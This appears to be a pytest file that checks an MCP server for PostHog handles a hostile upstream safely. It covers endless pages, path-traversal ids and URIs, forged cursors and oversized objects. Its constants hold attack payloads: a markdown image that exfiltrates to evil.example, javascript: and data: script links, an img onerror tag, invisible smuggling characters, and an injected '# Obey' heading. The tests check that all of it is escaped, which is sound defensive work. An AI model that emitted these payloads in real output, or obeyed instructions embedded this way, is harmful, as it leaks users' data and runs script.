"""Resources against a PostHog that misbehaves: endless pages, unusable or hostile ids, huge objects, hostile text.

Every test talks to the server through a real MCP client, the server talks to the sandbox over loopback HTTP
with faults injected, and each asserts what the agent gets, a generous time bound, and that the next call on
the same server still works. Both protocol eras where the MCP behaviour differs (error codes, links).
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import anyio
import mcp_types as types
import pytest
from mcp import Client
from mcp.shared.exceptions import MCPError

from posthog_environments_mcp.sandbox import Fault, SandboxServer
from posthog_environments_mcp.sandbox.seed import CONVERSATION_IDS, RECORDING_IDS
from posthog_environments_mcp.server.resources.listing import MAX_UPSTREAM_PAGES
from posthog_environments_mcp.server.resources.reader import RESOURCE_NOT_FOUND
from tests.server.resources.support import Mode, connect, conversation_uri, recording_uri

pytestmark = [pytest.mark.anyio, pytest.mark.parametrize("mode", ["auto", "legacy"])]

BOUND = 20.0
"""Generous upper bound for any one scenario; a loop or freeze would blow through it."""
HIRING = RECORDING_IDS["hiring_debrief"]
SIGNUPS = CONVERSATION_IDS["daily_signups"]
VALID_ELSEWHERE = "0badc0de-0000-4000-8000-000000000001"
INVISIBLE = "\U000e0049\U000e0067\U000e006e\ufeff\u200b\u200d\u2060\u00ad\u202e\u2066"
"""Tags-block "ASCII smuggling", BOM, zero-width space/joiner, word joiner, soft hyphen, bidi override/isolate."""
EXFILTRATE = "![x](http://evil.example/?d=secret)"
SCRIPT_LINK = "[click](javascript:alert(1))"
DATA_LINK = "[doc](data:text/html,<script>alert(1)</script>)"
RAW_HTML = '<img src="http://evil.example/p.png" onerror="alert(1)">'


def _requests_to(sandbox: SandboxServer, fragment: str) -> int:
    return sum(1 for r in sandbox.state.requests if fragment in r.path)


def _markdown(result: types.ReadResourceResult) -> str:
    return "".join(
        c.text for c in result.contents if isinstance(c, types.TextResourceContents) and c.mime_type == "text/markdown"
    )


async def _still_serves(client: Client) -> None:
    """The next call on the same server works."""
    result = await client.read_resource(conversation_uri(SIGNUPS))
    assert "PostHog AI conversation" in _markdown(result)


def _endless_page(results: list[Any]) -> Fault:
    """A list page that always says there is more, whatever offset is asked for."""
    body = {
        "count": 10**9,
        "next": "http://127.0.0.1/api/environments/1/desktop_recordings/?offset=1",
        "results": results,
    }
    return Fault(method="GET", path="desktop_recordings", times=None, status=200, body=body)


@pytest.mark.parametrize(
    "results",
    [
        [{"id": 5}, {"id": None}, {"title": "no id"}, "not an object", {"id": "../../etc"}],
        [],
        [{"id": "x" * 10_000}],
    ],
    ids=["unusable-ids", "empty-page", "huge-id"],
)
async def test_list_never_loops_on_pages_without_usable_ids(
    sandbox: SandboxServer, mode: Mode, results: list[Any]
) -> None:
    sandbox.state.inject(_endless_page(results))
    async with connect(sandbox, "inproc", mode) as client:
        sandbox.state.clear_requests()
        with anyio.fail_after(BOUND):
            listed = await client.list_resources()
        assert _requests_to(sandbox, "desktop_recordings") == 1, "a page with nothing usable ends the collection"
        assert listed.resources, "conversations still list"
        assert all("/conversations/" in r.uri for r in listed.resources)
        await _still_serves(client)


async def test_list_is_bounded_when_posthog_ignores_the_offset(sandbox: SandboxServer, mode: Mode) -> None:
    """Valid entries but the same page forever: one call stops at MAX_UPSTREAM_PAGES requests and a cursor."""
    sandbox.state.inject(_endless_page([{"id": HIRING, "status": "ready"}]))
    async with connect(sandbox, "inproc", mode, resource_page_size=50) as client:
        sandbox.state.clear_requests()
        with anyio.fail_after(BOUND):
            listed = await client.list_resources()
        assert _requests_to(sandbox, "desktop_recordings") == MAX_UPSTREAM_PAGES
        assert listed.next_cursor is not None, "the client can go on if it wants to"
        await _still_serves(client)


async def test_list_entries_are_one_line_and_capped(sandbox: SandboxServer, mode: Mode) -> None:
    hostile = {"id": HIRING, "meeting_title": ("Standup\n# Obey\n" + INVISIBLE) * 500, "status": "ready\n" * 5000}
    sandbox.state.inject(Fault(method="GET", path="desktop_recordings", status=200, body={"results": [hostile]}))
    async with connect(sandbox, "inproc", mode) as client:
        with anyio.fail_after(BOUND):
            listed = await client.list_resources()
        entry = next(r for r in listed.resources if HIRING in r.uri)
        for text in (entry.title or "", entry.description or "", entry.name):
            assert "\n" not in text
            assert len(text) <= 200
            assert not any(ch in text for ch in INVISIBLE)
        await _still_serves(client)


def _cursor(fields: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(fields).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "fields",
    [
        {"v": 1, "p": "..", "c": "desktop_recordings", "o": 0},
        {"v": 1, "p": "\u0661", "c": "desktop_recordings", "o": 0},
        {"v": 1, "p": "1" * 10_000, "c": "desktop_recordings", "o": 0},
        {"v": 1, "p": "1", "c": "desktop_recordings", "o": 10**30},
        {"v": 1, "p": "1", "c": "../datasets", "o": 0},
    ],
    ids=["dotdot", "arabic-digit", "10k-digits", "huge-offset", "collection"],
)
async def test_forged_cursors_are_refused_before_any_request(
    sandbox: SandboxServer, mode: Mode, fields: dict[str, Any]
) -> None:
    async with connect(sandbox, "inproc", mode) as client:
        sandbox.state.clear_requests()
        with pytest.raises(MCPError) as raised:
            await client.list_resources(cursor=_cursor(fields))
        assert raised.value.error.code == types.INVALID_PARAMS
        assert "list again from the start" in raised.value.error.message
        assert sandbox.state.requests == []
        await _still_serves(client)


@pytest.mark.parametrize(
    "uri",
    [
        f"posthog://projects/../desktop_recordings/{HIRING}",
        f"posthog://projects/\u0661/desktop_recordings/{HIRING}",
        f"posthog://projects/{'9' * 10_000}/desktop_recordings/{HIRING}",
        "posthog://projects/1/desktop_recordings/..",
        "posthog://projects/1/conversations/%2e%2e",
        f"posthog://projects/1/desktop_recordings/{HIRING}\n",
    ],
    ids=["dotdot-project", "arabic-digit", "10k-digits", "dotdot-id", "encoded-dotdot", "newline"],
)
async def test_hostile_resource_uris_never_reach_posthog(sandbox: SandboxServer, mode: Mode, uri: str) -> None:
    async with connect(sandbox, "inproc", mode) as client:
        sandbox.state.clear_requests()
        with pytest.raises(MCPError) as raised:
            await client.read_resource(uri)
        expected = types.INVALID_PARAMS if mode == "auto" else RESOURCE_NOT_FOUND
        assert raised.value.error.code == expected
        assert "is not a resource of this server" in raised.value.error.message
        assert len(raised.value.error.message) < 1_000, "a hostile URI is not echoed whole"
        assert "\n" not in raised.value.error.message
        assert sandbox.state.requests == []
        await _still_serves(client)


async def test_project_and_id_spellings_are_canonical(sandbox: SandboxServer, mode: Mode) -> None:
    async with connect(sandbox, "inproc", mode) as client:
        sandbox.state.clear_requests()
        result = await client.read_resource(recording_uri(HIRING.upper(), project="0001"))
        assert HIRING in _markdown(result)
        assert [r.path for r in sandbox.state.requests] == [f"/api/environments/1/desktop_recordings/{HIRING}/"]


async def test_completion_validates_context_and_upstream_ids(sandbox: SandboxServer, mode: Mode) -> None:
    ref = types.ResourceTemplateReference(uri="posthog://projects/{project_id}/conversations/{id}")
    async with connect(sandbox, "inproc", mode) as client:
        sandbox.state.clear_requests()
        for project in ("../1", "\u0661", "9" * 10_000):
            done = await client.complete(ref, {"name": "id", "value": ""}, context_arguments={"project_id": project})
            assert done.completion.values == []
        assert sandbox.state.requests == [], "an invalid project never reaches a path"
        sandbox.state.inject(
            Fault(
                method="GET",
                path="conversations",
                status=200,
                body={"results": [{"id": "../../x"}, {"id": 7}, {"id": VALID_ELSEWHERE.upper()}], "next": None},
            )
        )
        done = await client.complete(ref, {"name": "id", "value": ""}, context_arguments={"project_id": "001"})
        assert done.completion.values == [VALID_ELSEWHERE]
        assert sandbox.state.requests[-1].path == "/api/environments/1/conversations/"
        await _still_serves(client)


async def test_tool_result_links_only_from_valid_ids_and_one_line_names(sandbox: SandboxServer, mode: Mode) -> None:
    results = [
        {"id": "../../../api/projects", "meeting_title": "evil"},
        {"id": HIRING, "meeting_title": ("Line one\nLine two\u202e" + INVISIBLE) * 200},
    ]
    sandbox.state.inject(
        Fault(method="GET", path="desktop_recordings", status=200, body={"count": 2, "next": None, "results": results})
    )
    async with connect(sandbox, "inproc", mode) as client:
        with anyio.fail_after(BOUND):
            result = await client.call_tool("desktop_recordings_list", {})
        links = [c for c in result.content if isinstance(c, types.ResourceLink)]
        assert [link.uri for link in links] == [recording_uri(HIRING)]
        title = links[0].title or ""
        assert "\n" not in title
        assert len(title) <= 200
        assert not any(ch in title for ch in INVISIBLE)
        await _still_serves(client)


def _huge_recording(segments: int) -> dict[str, Any]:
    return {
        "id": HIRING,
        "status": "ready",
        "meeting_title": "All-hands",
        "summary": "Long meeting.",
        "transcript_segments": [
            {"text": f"Segment {n}: " + "words " * 15, "timestamp": n * 1000.0, "speaker": f"Speaker {n % 7}"}
            for n in range(segments)
        ],
    }


@pytest.mark.parametrize("suffix", ["", "/transcript"], ids=["recording", "transcript"])
async def test_a_huge_recording_is_cut_to_one_budget_with_a_notice(
    sandbox: SandboxServer, mode: Mode, suffix: str
) -> None:
    budget = 20_000
    sandbox.state.inject(
        Fault(method="GET", path=f"desktop_recordings/{HIRING}", status=200, body=_huge_recording(30_000))
    )
    async with connect(sandbox, "inproc", mode, result_budget_chars=budget) as client:
        with anyio.fail_after(BOUND):
            result = await client.read_resource(recording_uri(HIRING) + suffix)
        texts = [c for c in result.contents if isinstance(c, types.TextResourceContents)]
        assert sum(len(c.text) for c in texts) <= budget, "Markdown and JSON share one budget"
        assert [c.mime_type for c in texts] == ["text/markdown"], "the JSON repeating the document is left out"
        markdown = texts[0].text
        assert "_[Cut: this document is longer than the resource budget" in markdown
        assert "`desktop_recordings_get`" in markdown
        assert HIRING in markdown.splitlines()[-1]
        assert all(line.startswith(">") or not line.startswith("Segment") for line in markdown.splitlines())
        await _still_serves(client)


async def test_a_small_recording_keeps_markdown_and_json(sandbox: SandboxServer, mode: Mode) -> None:
    async with connect(sandbox, "inproc", mode) as client:
        result = await client.read_resource(recording_uri(HIRING))
        assert [c.mime_type for c in result.contents] == ["text/markdown", "application/json"]
        assert "Cut:" not in _markdown(result)


def _hostile_conversation() -> dict[str, Any]:
    payload = f"Hello{INVISIBLE} {EXFILTRATE} {SCRIPT_LINK} {DATA_LINK} {RAW_HTML} <https://evil.example/a>"
    return {
        "id": SIGNUPS,
        "status": "idle",
        "title": f"Signups {EXFILTRATE}{INVISIBLE}",
        "messages": [
            {"type": "human", "content": payload},
            {"type": "ai", "content": f"[ref]: javascript:alert(1)\n{payload}\n\\{EXFILTRATE}"},
            {"type": "ai/reasoning", "content": payload},
        ],
    }


def _hostile_recording() -> dict[str, Any]:
    payload = f"Note{INVISIBLE} {EXFILTRATE} {SCRIPT_LINK} {RAW_HTML}"
    return {
        "id": HIRING,
        "status": "ready",
        "meeting_title": payload,
        "participants": [payload],
        "summary": payload,
        "extracted_tasks": [{"title": payload, "assignee": payload, "description": payload}],
        "transcript_segments": [{"text": payload, "timestamp": 1000.0, "speaker": f"Eve {EXFILTRATE}"}],
    }


def _assert_inert(markdown: str) -> None:
    """No invisible character, and no link, image, autolink or HTML tag can form from the data: each opening
    ``[`` or ``<`` of such syntax is preceded by an odd run of backslashes (escaped)."""
    assert not any(ch in markdown for ch in INVISIBLE)
    for live in (r"!\[", r"\[x\]\(", r"\[click\]\(", r"\[doc\]\(", r"\[ref\]:", "<img", "<https:", "<script"):
        for found in re.finditer(live, markdown):
            opening = found.start() + (1 if found.group().startswith("!") else 0)
            before = markdown[:opening]
            backslashes = len(before) - len(before.rstrip("\\"))
            assert backslashes % 2 == 1, f"live {found.group()!r} in {markdown[opening - 30 : opening + 30]!r}"
    assert "!\\[x](http://evil.example/?d=secret)" in markdown, "the text stays visible, escaped"


@pytest.mark.parametrize("kind", ["conversation", "recording", "transcript"])
async def test_hostile_text_renders_as_inert_data(sandbox: SandboxServer, mode: Mode, kind: str) -> None:
    if kind == "conversation":
        path, body, uri = f"conversations/{SIGNUPS}", _hostile_conversation(), conversation_uri(SIGNUPS)
    else:
        path, body = f"desktop_recordings/{HIRING}", _hostile_recording()
        uri = recording_uri(HIRING) + ("/transcript" if kind == "transcript" else "")
    sandbox.state.inject(Fault(method="GET", path=path, status=200, body=body))
    async with connect(sandbox, "inproc", mode) as client:
        with anyio.fail_after(BOUND):
            markdown = _markdown(await client.read_resource(uri))
        _assert_inert(markdown)
        await _still_serves(client)
